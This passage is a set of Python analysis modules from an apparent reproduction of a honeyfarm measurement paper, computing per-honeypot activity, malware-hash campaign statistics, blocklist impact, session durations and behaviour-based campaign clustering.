    store = occ.store
    n_hashes = len(store.hashes)
    sessions = np.bincount(occ.hash_id, minlength=n_hashes)

    ips = store.client_ip[occ.session_idx].astype(np.uint64)
    clients = _unique_pair_counts(occ.hash_id, ips, n_hashes)

    days = store.day[occ.session_idx].astype(np.uint64)
    day_counts = _unique_pair_counts(occ.hash_id, days, n_hashes)

    pots = store.honeypot[occ.session_idx].astype(np.uint64)
    pot_counts = _unique_pair_counts(occ.hash_id, pots, n_hashes)

    first_day = np.full(n_hashes, np.iinfo(np.int32).max, dtype=np.int64)
    np.minimum.at(first_day, occ.hash_id, store.day[occ.session_idx])
    last_day = np.zeros(n_hashes, dtype=np.int64)
    np.maximum.at(last_day, occ.hash_id, store.day[occ.session_idx])

    return HashStats(
        hash_id=np.arange(n_hashes, dtype=np.int64),
        sessions=sessions,
        clients=clients,
        days=day_counts,
        honeypots=pot_counts,
        first_day=first_day,
        last_day=last_day,
    )


def hashes_per_honeypot(occ: HashOccurrences) -> np.ndarray:
    """Unique hashes recorded per honeypot (Figures 18/19)."""
    store = occ.store
    pots = store.honeypot[occ.session_idx].astype(np.uint64)
    key = (pots << np.uint64(34)) | occ.hash_id.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_pot = (unique_pairs >> np.uint64(34)).astype(np.int64)
    return np.bincount(pair_pot, minlength=store.n_honeypots)


def hashes_per_client(occ: HashOccurrences) -> np.ndarray:
    """Unique hashes per client IP, descending (Figure 21 curve)."""
    store = occ.store
    ips = store.client_ip[occ.session_idx].astype(np.uint64)
    key = (ips << np.uint64(34)) | occ.hash_id.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_ip = unique_pairs >> np.uint64(34)
    _, counts = np.unique(pair_ip, return_counts=True)
    return np.sort(counts)[::-1]


def clients_per_hash_curve(stats: HashStats) -> np.ndarray:
    """Unique clients per hash, descending (Figure 20 curve)."""
    observed = stats.clients[stats.sessions > 0]
    return np.sort(observed)[::-1]


def pot_coverage_summary(occ: HashOccurrences, stats: HashStats) -> Dict[str, float]:
    """Section 8.4 headline numbers."""
    observed = stats.sessions > 0
    pot_counts = stats.honeypots[observed]
    n_hashes = int(observed.sum())
    per_pot = hashes_per_honeypot(occ)
    half = occ.store.n_honeypots / 2
    if n_hashes == 0:
        return {
            "n_hashes": 0, "share_single_pot": 0.0, "share_over_10_pots": 0.0,
            "count_over_half_pots": 0, "top_pot_hash_share": 0.0,
            "top10_pot_hash_share": 0.0,
        }
    top10_pots = np.argsort(per_pot)[::-1][:10]
    top10_mask = np.isin(occ.store.honeypot[occ.session_idx], top10_pots)
    top10_unique = len(np.unique(occ.hash_id[top10_mask]))
    return {
        "n_hashes": n_hashes,
        "share_single_pot": float((pot_counts == 1).mean()),
        "share_over_10_pots": float((pot_counts > 10).mean()),
        "count_over_half_pots": int((pot_counts > half).sum()),
        "top_pot_hash_share": float(per_pot.max()) / n_hashes,
        "top10_pot_hash_share": top10_unique / n_hashes,
    }


def campaign_length_ecdfs(
    stats: HashStats, store: SessionStore, intel: IntelDatabase
) -> Dict[str, Ecdf]:
    """Figure 22: ECDF of active days per hash, overall and per tag."""
    observed = np.nonzero(stats.sessions > 0)[0]
    days = stats.days[observed]
    tags = [intel.tag_of(store.hashes.value_of(int(h))) for h in observed]
    out: Dict[str, Ecdf] = {"ALL": Ecdf(days)}
    for tag in (ThreatTag.MIRAI, ThreatTag.TROJAN, ThreatTag.MALICIOUS):
        sample = [d for d, t in zip(days, tags) if t is tag]
        out[tag.value] = Ecdf(sample)
    return out


@dataclass
class HashTableRow:
    """One row of Tables 4/5/6."""

    rank: int
    hash_label: str
    sha256: str
    n_sessions: int
    n_clients: int
    n_days: int
    tag: str
    n_honeypots: int


def top_hash_table(
    stats: HashStats,
    store: SessionStore,
    intel: IntelDatabase,
    sort_by: str = "sessions",
    k: int = 20,
    labels: Optional[Dict[str, str]] = None,
) -> List[HashTableRow]:
    """Tables 4 (sessions), 5 (clients) and 6 (days)."""
    order = stats.top_by(sort_by, k)
    rows: List[HashTableRow] = []
    for rank, idx in enumerate(order, start=1):
        if stats.sessions[idx] == 0:
            continue
        sha = store.hashes.value_of(int(idx))
        label = labels.get(sha, sha[:10]) if labels else sha[:10]
        rows.append(
            HashTableRow(
                rank=rank,
                hash_label=label,
                sha256=sha,
                n_sessions=int(stats.sessions[idx]),
                n_clients=int(stats.clients[idx]),
                n_days=int(stats.days[idx]),
                tag=intel.tag_of(sha).value,
                n_honeypots=int(stats.honeypots[idx]),
            )
        )
    return rows
