"""Blocking / takedown analysis (paper Section 9, "Honeyfarms and
Security Reality").

The paper's operational complaint: long-lasting campaigns that a handful
of client IPs run for months are trivially blockable, yet nobody blocks
them.  This module quantifies blockability on a trace: which campaigns
could be neutralised by blocking at most ``max_ips`` addresses, and how
much intrusion activity an IP blocklist of a given size would have
suppressed.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

import numpy as np

from repro.core.context import StoreOrContext, as_context
from repro.core.hashes import HashOccurrences, HashStats
from repro.intel.database import IntelDatabase
from repro.store.store import SessionStore


@dataclass
class BlockableCampaign:
    """A campaign neutralisable by blocking a handful of IPs."""

    sha256: str
    n_clients: int
    n_days: int
    n_honeypots: int
    n_sessions: int
    tag: str


def blockable_campaigns(
    stats: HashStats,
    store: SessionStore,
    intel: IntelDatabase,
    max_ips: int = 5,
    min_days: int = 30,
) -> List[BlockableCampaign]:
    """Campaigns run by at most ``max_ips`` IPs over at least ``min_days``.

    These are the paper's "frustrating" cases: visible for months, easy to
    stop, never stopped.
    """
    mask = (
        (stats.sessions > 0)
        & (stats.clients <= max_ips)
        & (stats.days >= min_days)
    )
    out: List[BlockableCampaign] = []
    for hash_id in stats.hash_id[mask]:
        sha = store.hashes.value_of(int(hash_id))
        out.append(
            BlockableCampaign(
                sha256=sha,
                n_clients=int(stats.clients[hash_id]),
                n_days=int(stats.days[hash_id]),
                n_honeypots=int(stats.honeypots[hash_id]),
                n_sessions=int(stats.sessions[hash_id]),
                tag=intel.tag_of(sha).value,
            )
        )
    out.sort(key=lambda c: -c.n_days)
    return out


@dataclass
class BlocklistImpact:
    """Effect of blocking the top-k intrusion IPs."""

    blocklist_size: int
    blocked_ips: np.ndarray
    intrusion_sessions_blocked: float  # fraction of intrusion sessions
    hashes_fully_blocked: float  # fraction of hashes losing all their IPs


def blocklist_impact(
    store: StoreOrContext,
    occ: Optional[HashOccurrences] = None,
    blocklist_size: int = 100,
) -> BlocklistImpact:
    """Simulate blocking the ``blocklist_size`` busiest intrusion IPs.

    "Intrusion" sessions are NO_CMD/CMD/CMD+URI (successful logins).  The
    result shows the asymmetry the paper describes: a small blocklist
    removes the few-IP campaigns outright but barely dents botnet-driven
    ones.
    """
    ctx = as_context(store)
    store = ctx.store
    intrusion = ctx.category_codes >= 2
    ips = store.client_ip[intrusion]
    if len(ips) == 0:
        return BlocklistImpact(blocklist_size, np.zeros(0, dtype=np.uint64),
                               0.0, 0.0)
    unique, counts = np.unique(ips, return_counts=True)
    order = np.argsort(counts)[::-1]
    blocked = unique[order[:blocklist_size]]

    blocked_sessions = np.isin(ips, blocked).mean()

    hashes_fully_blocked = 0.0
    occ = occ or ctx.hash_occurrences
    if len(occ):
        hash_ips = store.client_ip[occ.session_idx]
        ip_blocked = np.isin(hash_ips, blocked)
        n_hash_ids = len(store.hashes)
        # A hash is fully blocked when every observed source IP is on the
        # blocklist.
        total_occ = np.bincount(occ.hash_id, minlength=n_hash_ids)
        blocked_occ = np.bincount(occ.hash_id[ip_blocked], minlength=n_hash_ids)
        observed = total_occ > 0
        fully = observed & (blocked_occ == total_occ)
        hashes_fully_blocked = float(fully.sum()) / float(observed.sum())

    return BlocklistImpact(
        blocklist_size=blocklist_size,
        blocked_ips=blocked,
        intrusion_sessions_blocked=float(blocked_sessions),
        hashes_fully_blocked=hashes_fully_blocked,
    )


def blocklist_sweep(
    store: StoreOrContext, sizes: List[int]
) -> Dict[int, BlocklistImpact]:
    """Blocklist impact at several sizes (diminishing-returns curve)."""
    ctx = as_context(store)
    return {
        size: blocklist_impact(ctx, ctx.hash_occurrences, size)
        for size in sizes
    }
