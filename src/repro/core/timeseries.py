"""Daily time-series analyses (paper Figures 3, 4, 6, 8, 9).

The paper visualises per-honeypot daily session counts as percentile bands
(median, IQR, 5th-95th) across honeypots, both for all honeypots and for
the top 5% by total sessions, overall and per category; plus the stacked
category-fraction plot of Figure 6.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store


@dataclass
class PercentileBands:
    """Per-day distribution of per-honeypot daily session counts."""

    days: np.ndarray  # day index
    p5: np.ndarray
    p25: np.ndarray
    median: np.ndarray
    p75: np.ndarray
    p95: np.ndarray

    def as_dict(self) -> Dict[str, np.ndarray]:
        return {
            "days": self.days, "p5": self.p5, "p25": self.p25,
            "median": self.median, "p75": self.p75, "p95": self.p95,
        }


def daily_sessions_matrix(
    store: StoreOrContext,
    mask: Optional[np.ndarray] = None,
    n_days: Optional[int] = None,
) -> np.ndarray:
    """(n_honeypots, n_days) matrix of daily session counts."""
    store = as_store(store)
    n_days = n_days or store.n_days
    pots = store.honeypot
    days = store.day
    if mask is not None:
        pots = pots[mask]
        days = days[mask]
    flat = pots.astype(np.int64) * n_days + days
    counts = np.bincount(flat, minlength=store.n_honeypots * n_days)
    return counts.reshape(store.n_honeypots, n_days)


def percentile_bands(matrix: np.ndarray) -> PercentileBands:
    """Across-honeypot percentile bands per day of a daily-count matrix."""
    days = np.arange(matrix.shape[1])
    pct = np.percentile(matrix, [5, 25, 50, 75, 95], axis=0)
    return PercentileBands(
        days=days, p5=pct[0], p25=pct[1], median=pct[2], p75=pct[3], p95=pct[4]
    )


def top_honeypots(store: StoreOrContext, fraction: float = 0.05) -> np.ndarray:
    """Indices of the top-``fraction`` honeypots by total sessions."""
    store = as_store(store)
    counts = np.bincount(store.honeypot, minlength=store.n_honeypots)
    k = max(1, int(round(store.n_honeypots * fraction)))
    return np.argsort(counts)[::-1][:k]


def bands_all_honeypots(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> PercentileBands:
    """Figure 4 (and Figure 8 when ``mask`` selects a category)."""
    return percentile_bands(daily_sessions_matrix(store, mask))


def bands_top_honeypots(
    store: StoreOrContext, mask: Optional[np.ndarray] = None, fraction: float = 0.05
) -> PercentileBands:
    """Figure 3 (and Figure 9 when ``mask`` selects a category).

    Honeypot ranking always uses *all* sessions, as in the paper (the top
    5% set is fixed by overall popularity).
    """
    store = as_store(store)
    top = top_honeypots(store, fraction)
    matrix = daily_sessions_matrix(store, mask)
    return percentile_bands(matrix[top])


def daily_totals(store: StoreOrContext, mask: Optional[np.ndarray] = None) -> np.ndarray:
    """Farm-wide session count per day (the black line in Figs 3/6)."""
    store = as_store(store)
    days = store.day if mask is None else store.day[mask]
    return np.bincount(days, minlength=store.n_days)


def category_fractions_over_time(store: StoreOrContext) -> Dict[str, np.ndarray]:
    """Figure 6: daily fraction of sessions per category + daily totals."""
    ctx = as_context(store)
    store = ctx.store
    n_days = store.n_days
    totals = ctx.daily_totals.astype(float)
    safe_totals = np.where(totals > 0, totals, 1.0)
    out: Dict[str, np.ndarray] = {"total": totals}
    for i, cat in enumerate(CATEGORIES):
        cat_daily = np.bincount(store.day[ctx.category_mask(i)], minlength=n_days)
        out[cat.value] = cat_daily / safe_totals
    return out


def category_bands(
    store: StoreOrContext, top_fraction: Optional[float] = None
) -> Dict[str, PercentileBands]:
    """Figures 8 (all pots) / 9 (top 5% pots): bands per category."""
    ctx = as_context(store)
    store = ctx.store
    result: Dict[str, PercentileBands] = {}
    for i, cat in enumerate(CATEGORIES):
        mask = ctx.category_mask(i)
        if top_fraction is None:
            result[cat.value] = bands_all_honeypots(store, mask)
        else:
            result[cat.value] = bands_top_honeypots(store, mask, top_fraction)
    return result
