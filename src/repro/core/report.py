"""Whole-paper report: every table and figure computed from one dataset.

`full_report` runs all analyses and returns a nested dict of plain Python /
numpy values; `print_summary` renders the headline numbers next to the
paper's published values so a run can be eyeballed for shape agreement.
This is also what EXPERIMENTS.md is generated from.
"""

from __future__ import annotations

from typing import Dict, Optional

import numpy as np

from repro.core import (
    activity,
    asns,
    clients,
    diversity,
    durations,
    freshness,
    tables,
    timeseries,
    versions,
)
from repro.core.blocking import blocklist_impact
from repro.core.classify import category_shares
from repro.core.context import AnalysisContext
from repro.core.federation import federation_report
from repro.core.hashes import (
    campaign_length_ecdfs,
    clients_per_hash_curve,
    hashes_per_client,
    hashes_per_honeypot,
    pot_coverage_summary,
)
from repro.obs import get_metrics
from repro.simulation.rng import RngStream
from repro.workload.dataset import HoneyfarmDataset

#: Paper-published values used for side-by-side reporting.
PAPER_VALUES = {
    "category_shares": {
        "NO_CRED": 0.277, "FAIL_LOG": 0.42, "NO_CMD": 0.116,
        "CMD": 0.18, "CMD_URI": 0.007,
    },
    "ssh_total_share": 0.7584,
    "top10_session_share": 0.14,
    "knee_rank": 11,
    "max_min_ratio_min": 30.0,
    "share_single_pot_min": 0.40,
    "share_over_10_pots": 0.18,
    "share_over_half_pots": 0.02,
    "share_single_day_min": 0.50,
    "hash_share_single_pot_min": 0.60,
    "hash_share_over_10_pots": 0.068,
    "top_pot_hash_share_max": 0.05,
    "top10_pot_hash_share_max": 0.15,
    "out_of_continent_share_min": 0.50,
}


def full_report(
    dataset: HoneyfarmDataset, ctx: Optional[AnalysisContext] = None
) -> Dict:
    """Compute every table/figure artefact once.

    All analyses share one :class:`AnalysisContext` (pass ``ctx`` to reuse
    one built elsewhere), so the expensive intermediates — session
    classification, the hash-occurrence index, per-client groupbys — are
    each computed a single time for the whole report.
    """
    ctx = ctx or AnalysisContext.from_dataset(dataset)
    store = ctx.store
    pot_countries = [site.country for site in dataset.deployment.sites]
    metrics = get_metrics()

    with metrics.span("report"):
        with metrics.span("intermediates"):
            occ = ctx.hash_occurrences
            stats = ctx.hash_stats
            labels = {c.primary_hash: c.campaign_id for c in dataset.campaigns
                      if c.primary_hash}

        report: Dict = {}

        def timed(key: str, compute) -> None:
            with metrics.span(key):
                report[key] = compute()

        timed("table1", lambda: tables.table1_categories(ctx))
        timed("table2", lambda: tables.table2_passwords(ctx))
        timed("table3", lambda: tables.table3_commands(ctx))
        with metrics.span("tables_4_5_6"):
            hash_tables = tables.tables_4_5_6(ctx, dataset.intel, labels)
        report["table4"] = hash_tables.by_sessions
        report["table5"] = hash_tables.by_clients
        report["table6"] = hash_tables.by_days

        timed("fig1_pots_per_country",
              lambda: dataset.deployment.pots_per_country())
        timed("fig2_activity", lambda: activity.ActivitySummary.compute(store))
        timed("fig2_sorted_sessions", lambda: activity.sorted_activity(store))
        timed("fig3_bands_top", lambda: timeseries.bands_top_honeypots(store))
        timed("fig4_bands_all", lambda: timeseries.bands_all_honeypots(store))
        timed("fig5_category_shares", lambda: category_shares(ctx))
        timed("fig6_fractions",
              lambda: timeseries.category_fractions_over_time(ctx))
        timed("fig7_durations", lambda: durations.duration_ecdfs(ctx))
        timed("fig8_bands_by_category", lambda: timeseries.category_bands(ctx))
        timed("fig9_bands_by_category_top",
              lambda: timeseries.category_bands(ctx, 0.05))
        timed("fig10_clients_by_country",
              lambda: clients.clients_per_country(store))
        timed("fig11_daily_ips", lambda: clients.daily_unique_ips(ctx))
        timed("fig12_pots_per_client",
              lambda: clients.honeypots_per_client_ecdfs(ctx))
        timed("fig13_days_per_client",
              lambda: clients.days_per_client_ecdfs(ctx))
        timed("fig14_clients_per_pot",
              lambda: clients.clients_per_honeypot_report(ctx))
        timed("fig15_combos", lambda: clients.daily_category_combinations(ctx))
        timed("fig16_diversity",
              lambda: diversity.regional_diversity(store, pot_countries))
        timed("fig17_freshness", lambda: freshness.freshness_report(occ))
        timed("fig18_hashes_per_pot", lambda: hashes_per_honeypot(occ))
        timed("fig19_sessions_per_pot",
              lambda: activity.sessions_per_honeypot(store))
        timed("fig20_clients_per_hash", lambda: clients_per_hash_curve(stats))
        timed("fig21_hashes_per_client", lambda: hashes_per_client(occ))
        timed("fig22_campaign_lengths",
              lambda: campaign_length_ecdfs(stats, store, dataset.intel))
        timed("fig23_country_by_category",
              lambda: clients.clients_per_country_by_category(ctx))
        timed("fig24_diversity_by_category",
              lambda: diversity.diversity_by_category(ctx, pot_countries))

        timed("clients_summary", lambda: clients.clients_overall_summary(ctx))
        timed("hash_coverage", lambda: pot_coverage_summary(occ, stats))
        timed("intel_coverage",
              lambda: dataset.intel.coverage(store.hashes.values()))

        # Beyond-the-figures extensions (Section 9 discussion + related work).
        timed("ext_as_counts", lambda: asns.as_counts_by_category(ctx))
        timed("ext_versions", lambda: versions.version_counts(store)[:10])
        timed("ext_federation", lambda: federation_report(
            occ, k=4, rng=RngStream(dataset.config.seed, "report.federation")
        ))
        timed("ext_blocklist_100", lambda: blocklist_impact(ctx, occ, 100))
    return report


def print_summary(dataset: HoneyfarmDataset, report: Optional[Dict] = None) -> str:
    """Headline paper-vs-measured comparison, as printable text."""
    report = report or full_report(dataset)
    t1 = report["table1"]
    act = report["fig2_activity"]
    cs = report["clients_summary"]
    hc = report["hash_coverage"]
    div = report["fig16_diversity"]
    lines = [
        "=== Honeyfarm reproduction summary (paper vs measured) ===",
        f"sessions: {len(dataset.store):,} (paper: 402M, scale {dataset.config.scale:g})",
        f"SSH share: paper 75.8% | measured {t1.protocol_totals['ssh']:.1%}",
    ]
    for cat, share in PAPER_VALUES["category_shares"].items():
        lines.append(
            f"  {cat:<9} paper {share:6.1%} | measured {t1.overall[cat]:6.1%}"
        )
    lines += [
        f"top-10 pot session share: paper 14% | measured {act.top10_share:.1%}",
        f"activity knee rank: paper ~11 | measured {act.knee_rank}",
        f"max/min pot sessions: paper >30x | measured {act.max_min_ratio:.1f}x",
        f"clients: {cs['unique_ips']:,} IPs in {cs['unique_ases']:,} ASes",
        f"single-pot clients: paper >40% | measured {cs['share_single_pot']:.1%}",
        f">10-pot clients: paper 18% | measured {cs['share_over_10_pots']:.1%}",
        f">half-farm clients: paper 2% | measured {cs['share_over_half_pots']:.1%}",
        f"single-day clients: paper >50% | measured {cs['share_single_day']:.1%}",
        f"multi-category clients: paper >40% | measured {cs['multi_category_share']:.1%}",
        f"hashes: {hc['n_hashes']:,} unique (paper 64,004)",
        f"single-pot hashes: paper >60% | measured {hc['share_single_pot']:.1%}",
        f"top pot hash share: paper <5% | measured {hc['top_pot_hash_share']:.1%}",
        f"top-10 pot hash share: paper <15% | measured {hc['top10_pot_hash_share']:.1%}",
        f"out-of-continent-only client-days: paper >50% | measured {div.out_only_share:.1%}",
        f"intel coverage: paper <2% | measured {report['intel_coverage']:.1%}",
    ]
    return "\n".join(lines)
