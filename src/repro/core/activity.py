"""Per-honeypot activity skew (paper Section 4, Figure 2).

The paper's headline deployment findings: the top-10 honeypots see 14% of
all sessions, there is a knee in the sorted activity curve around rank 11,
and the most targeted honeypot sees >30x the sessions of the least
targeted one.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

import numpy as np

from repro.core.context import StoreOrContext, as_store


def sessions_per_honeypot(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> np.ndarray:
    """Session count per honeypot index (optionally over a session mask)."""
    store = as_store(store)
    pots = store.honeypot if mask is None else store.honeypot[mask]
    return np.bincount(pots, minlength=store.n_honeypots)


def sorted_activity(store: StoreOrContext, mask: Optional[np.ndarray] = None) -> np.ndarray:
    """Per-honeypot session counts, descending (the Figure 2 curve)."""
    return np.sort(sessions_per_honeypot(store, mask))[::-1]


def top_k_share(counts: np.ndarray, k: int = 10) -> float:
    """Share of total activity captured by the top-``k`` honeypots."""
    total = counts.sum()
    if total == 0:
        return 0.0
    return float(np.sort(counts)[::-1][:k].sum()) / float(total)


def max_min_ratio(counts: np.ndarray) -> float:
    """Most- vs least-targeted honeypot session ratio."""
    positive = counts[counts > 0]
    if len(positive) == 0:
        return 0.0
    return float(positive.max()) / float(positive.min())


def activity_knee(counts: np.ndarray) -> int:
    """Rank of the knee in the sorted activity curve.

    Uses the maximum-distance-to-chord heuristic on the log-scaled sorted
    curve; the paper observes the knee around rank 11.
    """
    sorted_counts = np.sort(counts)[::-1].astype(float)
    sorted_counts = sorted_counts[sorted_counts > 0]
    n = len(sorted_counts)
    if n < 3:
        return n
    y = np.log10(sorted_counts)
    x = np.arange(n, dtype=float)
    x0, y0 = x[0], y[0]
    x1, y1 = x[-1], y[-1]
    # Distance from each point to the chord between the curve's endpoints.
    denom = np.hypot(x1 - x0, y1 - y0)
    distance = np.abs((y1 - y0) * x - (x1 - x0) * y + x1 * y0 - y1 * x0) / denom
    return int(np.argmax(distance)) + 1


@dataclass
class ActivitySummary:
    """Figure 2 headline numbers."""

    total_sessions: int
    top10_share: float
    knee_rank: int
    max_sessions: int
    min_sessions: int
    max_min_ratio: float

    @classmethod
    def compute(cls, store: StoreOrContext) -> "ActivitySummary":
        counts = sessions_per_honeypot(store)
        return cls(
            total_sessions=int(counts.sum()),
            top10_share=top_k_share(counts, 10),
            knee_rank=activity_knee(counts),
            max_sessions=int(counts.max()) if len(counts) else 0,
            min_sessions=int(counts[counts > 0].min()) if (counts > 0).any() else 0,
            max_min_ratio=max_min_ratio(counts),
        )
