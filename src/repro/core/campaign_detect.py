"""Campaign detection by interaction-script similarity.

Related work (Shamsi et al., 2022) clusters honeypot attackers by their
behaviour; the paper itself correlates campaigns by file hash.  This
module detects campaigns *without* hashes: sessions are grouped by the
similarity of their command sequences (Jaccard over command sets, with a
union-find over similar script pairs), then the detected clusters can be
validated against the hash-based ground truth.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

import numpy as np

from repro.store.store import SessionStore


class UnionFind:
    """Path-compressed disjoint sets over integer ids."""

    def __init__(self, n: int):
        self.parent = list(range(n))

    def find(self, x: int) -> int:
        root = x
        while self.parent[root] != root:
            root = self.parent[root]
        while self.parent[x] != root:
            self.parent[x], x = root, self.parent[x]
        return root

    def union(self, a: int, b: int) -> None:
        ra, rb = self.find(a), self.find(b)
        if ra != rb:
            self.parent[rb] = ra

    def groups(self) -> Dict[int, List[int]]:
        out: Dict[int, List[int]] = defaultdict(list)
        for x in range(len(self.parent)):
            out[self.find(x)].append(x)
        return dict(out)


def jaccard(a: FrozenSet[str], b: FrozenSet[str]) -> float:
    if not a and not b:
        return 1.0
    union = len(a | b)
    return len(a & b) / union if union else 0.0


@dataclass
class DetectedCampaign:
    """A cluster of interaction scripts judged to be one campaign."""

    script_ids: List[int]
    n_sessions: int
    n_clients: int
    n_honeypots: int
    first_day: int
    last_day: int
    representative_commands: Tuple[str, ...]

    @property
    def span_days(self) -> int:
        return self.last_day - self.first_day + 1


def cluster_scripts(
    store: SessionStore, threshold: float = 0.6
) -> Dict[int, List[int]]:
    """Union scripts whose command-sets have Jaccard >= ``threshold``.

    Blocking by shared command keeps the pairwise comparison tractable:
    scripts are only compared when they share at least one command.
    """
    scripts = store.scripts
    command_sets = [frozenset(s.commands) for s in scripts]
    by_command: Dict[str, List[int]] = defaultdict(list)
    for script_id, commands in enumerate(command_sets):
        for command in commands:
            by_command[command].append(script_id)

    uf = UnionFind(len(scripts))
    compared: Set[Tuple[int, int]] = set()
    for members in by_command.values():
        if len(members) < 2 or len(members) > 2000:
            continue
        anchor = members[0]
        for other in members[1:]:
            pair = (anchor, other)
            if pair in compared:
                continue
            compared.add(pair)
            if jaccard(command_sets[anchor], command_sets[other]) >= threshold:
                uf.union(anchor, other)
    return uf.groups()


def detect_campaigns(
    store: SessionStore,
    threshold: float = 0.6,
    min_sessions: int = 2,
) -> List[DetectedCampaign]:
    """Detect campaigns from command behaviour alone."""
    if not store.scripts:
        return []
    clusters = cluster_scripts(store, threshold)

    # Map script cluster -> session statistics (vectorised per cluster).
    script_to_cluster = {}
    for root, members in clusters.items():
        for m in members:
            script_to_cluster[m] = root

    session_cluster = np.full(len(store), -1, dtype=np.int64)
    scripted = store.script_id >= 0
    session_cluster[scripted] = np.array(
        [script_to_cluster[int(s)] for s in store.script_id[scripted]]
    )

    campaigns: List[DetectedCampaign] = []
    for root, members in clusters.items():
        mask = session_cluster == root
        n_sessions = int(mask.sum())
        if n_sessions < min_sessions:
            continue
        campaigns.append(DetectedCampaign(
            script_ids=sorted(members),
            n_sessions=n_sessions,
            n_clients=len(np.unique(store.client_ip[mask])),
            n_honeypots=len(np.unique(store.honeypot[mask])),
            first_day=int(store.day[mask].min()),
            last_day=int(store.day[mask].max()),
            representative_commands=store.scripts[members[0]].commands,
        ))
    campaigns.sort(key=lambda c: -c.n_sessions)
    return campaigns


@dataclass
class ValidationResult:
    """How well behaviour clusters align with the hash ground truth."""

    n_detected: int
    n_hash_campaigns: int
    purity: float  # mean share of a cluster's sessions sharing its top hash
    recall: float  # share of hash campaigns captured inside some cluster


def validate_against_hashes(
    store: SessionStore, campaigns: List[DetectedCampaign]
) -> ValidationResult:
    """Score detected clusters against hash-identified campaigns."""
    script_to_cluster: Dict[int, int] = {}
    for idx, campaign in enumerate(campaigns):
        for script_id in campaign.script_ids:
            script_to_cluster[script_id] = idx

    # For every session with both a script and hashes, record its cluster
    # and primary hash.
    cluster_hash_counts: Dict[int, Dict[int, int]] = defaultdict(
        lambda: defaultdict(int))
    hash_best_cluster: Dict[int, Dict[int, int]] = defaultdict(
        lambda: defaultdict(int))
    for i in range(len(store)):
        script_id = int(store.script_id[i])
        if script_id < 0 or not store.hash_ids[i]:
            continue
        cluster = script_to_cluster.get(script_id)
        if cluster is None:
            continue
        primary = store.hash_ids[i][0]
        cluster_hash_counts[cluster][primary] += 1
        hash_best_cluster[primary][cluster] += 1

    purities = []
    for counts in cluster_hash_counts.values():
        total = sum(counts.values())
        purities.append(max(counts.values()) / total if total else 0.0)

    n_hash_campaigns = len(hash_best_cluster)
    captured = sum(1 for counts in hash_best_cluster.values() if counts)

    return ValidationResult(
        n_detected=len(campaigns),
        n_hash_campaigns=n_hash_campaigns,
        purity=float(np.mean(purities)) if purities else 0.0,
        recall=captured / n_hash_campaigns if n_hash_campaigns else 0.0,
    )
