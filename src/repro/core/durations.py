"""Session-duration analysis (paper Figure 7).

ECDFs of session duration per category, with the two timeout landmarks:
the no-login timeout and the three-minute post-login idle timeout.  The
paper's observations: durations grow with interaction depth, >90% of
NO_CMD sessions end at the idle timeout, and CMD+URI sessions can cross
the three-minute line because downloads reset the timer.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context
from repro.core.ecdf import Ecdf
from repro.workload.samplers import IDLE_TIMEOUT, NO_LOGIN_TIMEOUT


@dataclass
class DurationReport:
    """Figure 7's content, numerically."""

    ecdfs: Dict[str, Ecdf]
    no_login_timeout: float
    idle_timeout: float

    def timeout_share(self, category: str) -> float:
        """Fraction of a category's sessions lasting >= the idle timeout."""
        ecdf = self.ecdfs[category]
        if ecdf.n == 0:
            return 0.0
        return ecdf.survival(self.idle_timeout - 1e-6)

    def median(self, category: str) -> float:
        return self.ecdfs[category].median


def duration_ecdfs(store: StoreOrContext) -> DurationReport:
    """Per-category duration ECDFs."""
    ctx = as_context(store)
    store = ctx.store
    ecdfs: Dict[str, Ecdf] = {}
    for i, cat in enumerate(CATEGORIES):
        ecdfs[cat.value] = Ecdf(store.duration[ctx.category_mask(i)])
    return DurationReport(
        ecdfs=ecdfs,
        no_login_timeout=NO_LOGIN_TIMEOUT,
        idle_timeout=IDLE_TIMEOUT,
    )


def share_over(store: StoreOrContext, seconds: float) -> Dict[str, float]:
    """Fraction of sessions per category lasting longer than ``seconds``."""
    ctx = as_context(store)
    store = ctx.store
    out: Dict[str, float] = {}
    for i, cat in enumerate(CATEGORIES):
        durations = store.duration[ctx.category_mask(i)]
        out[cat.value] = float((durations > seconds).mean()) if len(durations) else 0.0
    return out
