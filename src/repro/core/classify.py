"""Session classification (paper Section 6, Figure 5).

The flow diagram in Figure 5:

* no credentials offered            -> NO_CRED   (scanning)
* credentials offered, none succeed -> FAIL_LOG  (scouting)
* login succeeded, no commands      -> NO_CMD    (intrusion)
* commands, no remote resource      -> CMD       (intrusion)
* commands + URI access             -> CMD_URI   (intrusion)
"""

from __future__ import annotations

import enum
from typing import TYPE_CHECKING, Dict

import numpy as np

from repro.store.records import SessionRecord
from repro.store.store import SessionStore

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.context import StoreOrContext


class Category(enum.Enum):
    NO_CRED = "NO_CRED"
    FAIL_LOG = "FAIL_LOG"
    NO_CMD = "NO_CMD"
    CMD = "CMD"
    CMD_URI = "CMD_URI"

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


CATEGORIES = [Category.NO_CRED, Category.FAIL_LOG, Category.NO_CMD,
              Category.CMD, Category.CMD_URI]

#: The behavioural grouping of Section 6.
BEHAVIOR_OF = {
    Category.NO_CRED: "scanning",
    Category.FAIL_LOG: "scouting",
    Category.NO_CMD: "intrusion",
    Category.CMD: "intrusion",
    Category.CMD_URI: "intrusion",
}


def classify_record(record: SessionRecord) -> Category:
    """Classify a single row-shaped record."""
    if record.n_login_attempts == 0:
        return Category.NO_CRED
    if not record.login_success:
        return Category.FAIL_LOG
    if not record.commands:
        return Category.NO_CMD
    if record.uris:
        return Category.CMD_URI
    return Category.CMD


def classify_store(store: SessionStore) -> np.ndarray:
    """Vectorised classification: one int8 code per session.

    Codes index into :data:`CATEGORIES`.
    """
    n = len(store)
    codes = np.empty(n, dtype=np.int8)
    no_cred = store.n_attempts == 0
    fail = (~no_cred) & (~store.login_success)
    success = store.login_success
